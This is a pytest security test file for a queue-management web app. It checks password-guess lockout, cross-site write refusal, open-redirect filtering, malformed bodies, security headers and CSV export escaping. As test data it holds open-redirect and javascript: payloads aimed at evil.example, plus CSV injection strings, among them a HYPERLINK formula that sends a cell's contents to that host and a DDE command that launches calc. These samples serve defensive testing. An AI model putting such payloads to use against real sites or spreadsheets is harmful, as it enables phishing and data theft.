"""The web apps under attack: guessing passwords, locking others out, cross-site writes,
open redirects, odd bodies, headers, and the status page's listener of its own."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from support.hall import hall_config
from webhall import JSON, MANAGER, SUPERVISOR, WebHall, client, command, start_web_hall

from broker_config.process import MosquittoProcess
from hall.reports import FORMULA_START
from protocol import messages as m
from protocol.link import new_command_id
from web.guard import safe_next
from web.sessions import MAX_FAILURES

ROOT = Path(__file__).resolve().parents[2]
STRANGER = "127.0.0.2"  # another loopback address: a second client machine


async def sign_in(session: aiohttp.ClientSession, hall: WebHall, name: str,
                  password: str) -> int:
    response = await session.post(f"{hall.url}/api/login",
                                  json={"name": name, "password": password})
    return response.status


def failed_checks(caplog: pytest.LogCaptureFixture) -> int:
    return sum(1 for r in caplog.records if r.getMessage().startswith("failed sign-in"))


# ---------------------------------------------------------------- guessing passwords
async def test_sign_ins_sent_at_once_check_no_more_passwords_than_allowed(
        web_hall: WebHall, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.WARNING, logger="web.auth")
    async with client(web_hall.url) as session:
        guesses = [f"guess-{n:03d}" for n in range(99)] + [MANAGER[1]]  # the right one last
        statuses = await asyncio.gather(*(sign_in(session, web_hall, MANAGER[0], p)
                                          for p in guesses))
        assert set(statuses) <= {401, 429}, statuses
        assert statuses[-1] == 429  # the right password came too late
        assert statuses.count(401) < MAX_FAILURES
        assert failed_checks(caplog) == MAX_FAILURES  # checked: the allowance, no more
        assert await sign_in(session, web_hall, *MANAGER) == 429  # and it stays locked
        assert failed_checks(caplog) == MAX_FAILURES


async def test_a_strangers_failures_do_not_lock_the_manager_out(web_hall: WebHall) -> None:
    async with client(web_hall.url, local=STRANGER) as stranger:
        for _ in range(MAX_FAILURES):
            await sign_in(stranger, web_hall, MANAGER[0], "a-wrong-guess")
        assert await sign_in(stranger, web_hall, *MANAGER) == 429  # the stranger is locked
        for n in range(3 * MAX_FAILURES):  # unknown names lock only their own pairs
            await sign_in(stranger, web_hall, f"nobody{n % 3}", "a-wrong-guess")
    async with client(web_hall.url) as office:
        assert await sign_in(office, web_hall, *MANAGER) == 200
        assert (await office.get(f"{web_hall.url}/api/me")).status == 200


async def test_a_changed_password_ends_the_old_sessions(web_hall: WebHall) -> None:
    async with client(web_hall.url) as old, client(web_hall.url) as other:
        assert await sign_in(old, web_hall, *MANAGER) == 200
        assert await sign_in(other, web_hall, *SUPERVISOR) == 200
        changed = subprocess.run(
            [sys.executable, "-m", "web.accounts", "--file", str(web_hall.managers), "add",
             MANAGER[0], "--role", "manager", "--password-stdin"],
            input="a-new-password\n", capture_output=True, text=True, cwd=ROOT, timeout=60)
        assert changed.returncode == 0, changed.stderr
        assert (await old.get(f"{web_hall.url}/api/me")).status == 401
        status, _ = await command(old, web_hall, "set_notice", {"text": "still here?"})
        assert status == 401
        assert (await other.get(f"{web_hall.url}/api/me")).status == 200  # not the supervisor
        assert await sign_in(old, web_hall, *MANAGER) == 401
        assert await sign_in(old, web_hall, MANAGER[0], "a-new-password") == 200
        assert (await old.get(f"{web_hall.url}/api/me")).status == 200
    assert web_hall.controller.engine.notice == ""


# ---------------------------------------------------------------- cross-site writes
WRITES: list[tuple[dict[str, str], int, str]] = [
    ({}, 403, "Origin header is required"),
    ({"Origin": "null"}, 403, "another site"),
    ({"Origin": "http://evil.example", "Host": "evil.example"}, 403, "another site"),
    ({"Origin": "http://127.0.0.1"}, 403, "another site"),  # another port, another origin
    ({"Referer": "http://evil.example/page"}, 403, "another site"),
    ({"Origin": "http://evil.example", "Referer": "SELF/live"}, 403, "another site"),
    ({"Referer": "SELF/live"}, 200, ""),  # an Origin-less browser still sends its page
    ({"Origin": "SELF"}, 200, ""),
]


@pytest.mark.parametrize(("headers", "status", "says"), WRITES)
async def test_writes_come_only_from_the_apps_own_origin(
        web_hall: WebHall, headers: dict[str, str], status: int, says: str) -> None:
    headers = {k: v.replace("SELF", web_hall.url) for k, v in headers.items()}
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as session:
        login = await session.post(f"{web_hall.url}/api/login", headers={**JSON, **headers},
                                   data=json.dumps({"name": MANAGER[0],
                                                    "password": MANAGER[1]}))
        assert login.status == status
        if status == 200:
            return
        assert says in (await login.json())["error"]["message"]
        async with client(web_hall.url) as manager:  # signed in, the write still refused
            assert await sign_in(manager, web_hall, *MANAGER) == 200
            response = await manager.post(f"{web_hall.url}/api/commands/set_notice",
                                          data='{"text": "forged"}',
                                          headers={**JSON, "Origin": "", **headers})
            assert response.status == status
    assert web_hall.controller.engine.notice == ""


# ---------------------------------------------------------------- open redirects
EVIL_NEXT = ["/%5Cevil.example/phish.html", "/%09/evil.example/phish.html",
             "/%5C%5Cevil.example", "//evil.example", "https://evil.example/", "%2F%2Fevil.example",
             "/%0A/evil.example", "/%0D%0A/evil.example", " //evil.example", "javascript:alert(1)",
             "evil.example", "/\\/evil.example", "http:/evil.example", "/%7F/evil.example"]


@pytest.mark.parametrize("target", EVIL_NEXT)
async def test_sign_in_never_leads_off_the_site(web_hall: WebHall, target: str) -> None:
    async with client(web_hall.url) as session:
        page = await (await session.get(f"{web_hall.url}/login?next={target}")).text()
        assert 'data-next="/live"' in page


def test_safe_next_keeps_paths_on_this_site() -> None:
    for kept in ("/live", "/reports?from=2026-11-01&to=2026-11-23", "/tickets/x/print",
                 "/reports/services.csv?from=2026-11-01", "/live#alerts"):
        assert safe_next(kept) == kept
    for bad in ("/\\evil.example", "/\t/evil.example", "//evil.example", "///evil.example",
                "https://evil.example/live", "http:/live", "live", "", None, "/\r\n/x",
                "\\\\evil.example", "/ /evil.example"):
        assert safe_next(bad) == "/live", bad


# ---------------------------------------------------------------- odd bodies
ODD_BODIES: list[tuple[str, str, str]] = [
    ("login", '{"name": "\\ud800", "password": "x-password"}', "not valid Unicode"),
    ("login", '{"name": "wang", "password": "\\udfff"}', "not valid Unicode"),
    ("login", "[" * 100_000 + "]" * 100_000, "Too Large"),
    ("login", "[" * 30_000 + "]" * 30_000, "nested more than"),
    ("login", '{"name": ' + "[" * 9 + "]" * 9 + "}", "nested more than"),
    ("commands/set_notice", '{"text": "\\ud800"}', "not valid Unicode"),
    ("commands/set_notice", '{"text": ' + "{\"a\": " * 5000 + "1" + "}" * 5000 + "}",
     "nested more than"),
]


@pytest.mark.parametrize(("path", "body", "says"), ODD_BODIES)
async def test_odd_bodies_get_a_400_not_a_500(web_hall: WebHall, path: str, body: str,
                                              says: str) -> None:
    async with client(web_hall.url) as session:
        assert await sign_in(session, web_hall, *MANAGER) == 200
        response = await session.post(f"{web_hall.url}/api/{path}", data=body, headers=JSON)
        answer = await response.json()
        assert 400 <= response.status < 500, answer
        assert says in answer["error"]["message"]
        assert (await session.get(f"{web_hall.url}/api/me")).status == 200  # still serving
    assert web_hall.controller.engine.notice == ""


async def test_follow_up_of_an_alert_not_on_the_board_is_refused(web_hall: WebHall) -> None:
    async with client(web_hall.url) as manager:
        assert await sign_in(manager, web_hall, *MANAGER) == 200
        for kind, subject in (("bad_rating", "20261123-A001"), ("long_wait", "A"),
                              ("printer", "<script>x</script>")):
            status, body = await command(manager, web_hall, "follow_up",
                                         {"kind": kind, "subject": subject, "note": "n"})
            assert status == 404 and body["error"]["code"] == "unknown_alert", body
    rows = await web_hall.controller.journal.query(
        "SELECT data FROM events WHERE kind = 'alert_followed_up'")
    assert rows == []


# ---------------------------------------------------------------- headers
async def test_api_answers_are_never_cached_and_the_server_is_not_named(
        web_hall: WebHall) -> None:
    token = (await web_hall.execute("issue", m.IssueTicket(
        id=new_command_id(), service="A", print_on_kiosk=False))).result["ticket"]["token"]
    async with client(web_hall.url) as session:
        answers = [await session.get(f"{web_hall.url}/api/me"),
                   await session.post(f"{web_hall.url}/api/login", json={"name": "x"})]
        assert await sign_in(session, web_hall, *MANAGER) == 200
        answers += [await session.get(f"{web_hall.url}/api/me"),
                    await session.get(f"{web_hall.url}/api/live"),
                    await session.get(f"{web_hall.url}/api/whatif"),
                    await session.get(f"{web_hall.url}/api/nothing")]
        for response in answers:
            assert response.headers["Cache-Control"] == "no-store", response.url
        others = [await session.get(f"{web_hall.url}/live"),
                  await session.get(f"{web_hall.url}/static/app.css"),
                  await session.get(f"{web_hall.url}/no/such/page"),
                  await session.get(f"{web_hall.status_url}/t/{token}"),
                  await session.get(f"{web_hall.status_url}/static/status.js")]
        for response in answers + others:
            assert not re.search(r"aiohttp|python", response.headers.get("Server", ""), re.I)
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


# ---------------------------------------------------------------- the status listener
MANAGER_PATHS = ["/", "/login", "/live", "/reports", "/reports/services.csv", "/api/me",
                 "/api/live", "/api/live/events", "/api/whatif", "/tickets/20261123-A001/print",
                 "/static/login.js", "/static/live.js", "/static/common.js"]


async def test_the_status_listener_serves_the_status_page_and_nothing_else(
        web_hall: WebHall) -> None:
    reply = await web_hall.execute("issue", m.IssueTicket(
        id=new_command_id(), service="A", print_on_kiosk=False))
    token = reply.result["ticket"]["token"]
    status_url = web_hall.status_url
    async with client(status_url) as resident:
        page = await resident.get(f"{status_url}/t/{token}")
        assert page.status == 200 and "A001" in await page.text()
        for asset in ("/static/app.css", "/static/status.js"):
            assert (await resident.get(f"{status_url}{asset}")).status == 200
        for path in MANAGER_PATHS:
            response = await resident.get(f"{status_url}{path}", allow_redirects=False)
            assert response.status == 404, path
        login = await resident.post(f"{status_url}/api/login",
                                    json={"name": MANAGER[0], "password": MANAGER[1]})
        assert login.status in (403, 404, 405) and "Set-Cookie" not in login.headers
        # and the manager's listener has no status pages
        assert (await resident.get(f"{web_hall.url}/t/{token}")).status == 404


async def test_the_listeners_are_separate_sockets(web_hall: WebHall) -> None:
    manager_port = int(web_hall.url.rsplit(":", 1)[1])
    status_port = int(web_hall.status_url.rsplit(":", 1)[1])
    assert manager_port != status_port
    await web_hall.servers.cleanup()  # stopping them leaves both ports closed
    for port in (manager_port, status_port):
        with pytest.raises(OSError):
            await asyncio.open_connection("127.0.0.1", port)


# ---------------------------------------------------------------- CSV injection
NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+cmd|' /C calc'!A0",
         "-2+3", "@SUM(1,2)", "\tTAB", "\rCR", "plain, with \"quotes\"", "a;=1+1"]


@pytest.fixture
async def hostile_hall(fresh_broker: MosquittoProcess, tmp_path: Path) -> Any:
    config = hall_config()
    services = [s.model_copy(update={"name": NAMES[i]}) if i < len(NAMES) else s
                for i, s in enumerate(config.services)]
    hall = await start_web_hall(fresh_broker, tmp_path,
                                config.model_copy(update={"services": services}))
    yield hall
    await hall.stop()


async def test_csv_cells_never_start_a_formula(hostile_hall: WebHall) -> None:
    for service in ("A", "B"):
        await hostile_hall.execute("issue", m.IssueTicket(
            id=new_command_id(), service=service, print_on_kiosk=False))
    async with client(hostile_hall.url) as session:
        assert await sign_in(session, hostile_hall, *MANAGER) == 200
        response = await session.get(f"{hostile_hall.url}/reports/services.csv")
        assert response.status == 200
        text = (await response.read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    names = {row[0]: row[1] for row in rows[1:]}
    for letter, name in zip("ABCDEFG", NAMES, strict=False):
        assert names[letter] == ("'" + name if name.startswith(FORMULA_START) else name)
    for row in rows:
        assert not any(cell.startswith(FORMULA_START) for cell in row), row
    issued = {row[0]: row[2] for row in rows[1:]}
    assert (issued["A"], issued["B"], issued["C"]) == ("1", "1", "0")  # numbers stay numbers

